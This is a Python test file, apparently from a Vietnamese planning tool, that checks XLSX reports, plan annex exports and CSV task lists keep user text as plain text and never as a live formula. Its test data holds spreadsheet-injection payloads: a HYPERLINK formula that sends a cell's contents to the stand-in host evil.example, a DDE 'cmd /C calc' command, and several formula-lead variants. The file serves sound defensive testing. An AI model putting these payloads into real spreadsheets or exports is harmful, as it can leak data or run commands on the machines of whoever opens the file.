"""Issue 22, finding 1: user text never becomes a live formula in a spreadsheet or CSV output.

A focal point's progress note (``=HYPERLINK(...)``) and a plan title (``=cmd|' /C calc'!A0``)
go through the real writers: the XLSX report, the plan annex export and ``steer task list
--format csv``. The workbooks are opened with openpyxl: no cell is a formula, and the text
is there, unchanged, as text. CSV fields that a spreadsheet would evaluate start with ``'``.
"""

from __future__ import annotations

import csv
import io
import shutil
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update
from typer.testing import CliRunner

from cli.main import app
from engine import db as dbmod
from engine.db import transaction
from engine.models import Plan, Task
from engine.planfile.export import write_plan_xlsx
from engine.planfile.readers import read_plan_file
from engine.planfile.spec import PlanSpec, SectionSpec, SourceRef, TaskSpec
from engine.render import render
from engine.reporting import build_report
from engine.safetext import csv_cell, formula_like
from tests.factories import seed_url
from tests.test_reporting import MAY, PLAN, act, build_base

NOTE = '=HYPERLINK("http://evil.example/?d="&B2,"Xem minh chứng")'
DDE = "=cmd|' /C calc'!A0"
PAYLOADS = [NOTE, DDE, "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def _formula_cells(wb) -> list[str]:  # type: ignore[no-untyped-def]
    return [f"{ws.title}!{c.coordinate}={c.value!r}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def _texts(wb) -> set[str]:  # type: ignore[no-untyped-def]
    return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


@pytest.fixture(scope="module")
def report(_sqlite_template, tmp_path_factory):  # type: ignore[no-untyped-def]
    path = tmp_path_factory.mktemp("formula") / "steer.db"
    shutil.copy(_sqlite_template, path)
    eng = dbmod.make_engine(f"sqlite:///{path}")
    build_base(eng)
    act(eng, "2025-05-07 08:00", "skhcn_focal", "add_note", "7", text=NOTE, percent=40)
    with transaction(eng) as s:
        plan_id = s.scalar(select(Plan.id).where(Plan.code == PLAN))
        s.execute(update(Task).where(Task.plan_id == plan_id, Task.code == "1").values(title=DDE))
        s.execute(update(Task).where(Task.plan_id == plan_id, Task.code == "6").values(title="@SUM(1,2)"))
    with transaction(eng) as s:
        data = build_report(s, plan_code=PLAN, kind="monthly", period="2025-05", as_of=MAY, cutoff_day=14, lang="vi")
    eng.dispose()
    return data


def test_the_xlsx_report_has_no_formula_cells_from_user_text(report):
    wb = load_workbook(io.BytesIO(render(report, "xlsx")))
    assert _formula_cells(wb) == []
    texts = _texts(wb)
    assert DDE in texts and "@SUM(1,2)" in texts  # the titles, kept exactly, as text
    assert any(NOTE in t for t in texts)  # the note is the item's current result


def test_the_plan_annex_export_stores_formula_like_text_as_text(tmp_path):
    tasks = [TaskSpec(code=str(i), title=p, source=SourceRef("x", i), section="I", lead=[p], deliverable=p,
                      deadline_text="6/2025", note=p) for i, p in enumerate(PAYLOADS, start=1)]
    spec = PlanSpec(source_file="x", title=DDE, document="Kế hoạch số 1/KH-UBND", issued_on=date(2025, 3, 1),
                    issued_by=NOTE, format="yaml", sections=[SectionSpec("I", NOTE, SourceRef("x", 1))], tasks=tasks)
    dest = write_plan_xlsx(spec, tmp_path / "annex.xlsx")
    wb = load_workbook(dest)
    assert _formula_cells(wb) == []
    assert set(PAYLOADS) - {"\r=1+1"} <= _texts(wb)
    back = read_plan_file(dest)  # and the annex still reads back as the same plan
    assert [t.title for t in back.tasks][:2] == [NOTE, DDE]


def test_csv_neutralises_every_formula_lead():
    assert [csv_cell(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
    for harmless in ("Rà soát thủ tục", "-5", "+84912345678", "12,5", "2025-06-30", "", None, 7, "a=b"):
        assert not formula_like(harmless) and csv_cell(harmless) == harmless


@pytest.mark.parametrize("as_", [None, "secretariat"], ids=["tasks", "items"])
def test_task_list_csv_quotes_formula_like_cells(db_url, tmp_path_factory, as_):
    tasks = [{"code": str(i), "lead": ["SKHCN"], "deadline": date(2025, 6, 30), "title": p}
             for i, p in enumerate(PAYLOADS, start=1)]
    seed_url(db_url, cache_dir=tmp_path_factory.getbasetemp(), tasks=tasks)
    args = ["--db", db_url, "task", "list", "--format", "csv"] + (["--as", as_] if as_ else [])
    r = CliRunner().invoke(app, args)  # each invocation disposes of the engine it made
    assert r.exit_code == 0, r.output
    rows = list(csv.reader(io.StringIO(r.stdout)))
    titles = [row[rows[0].index("title")] for row in rows[1:]]
    assert sorted(titles) == sorted("'" + p for p in PAYLOADS)
    for row in rows[1:]:
        assert not any(formula_like(cell) for cell in row), row
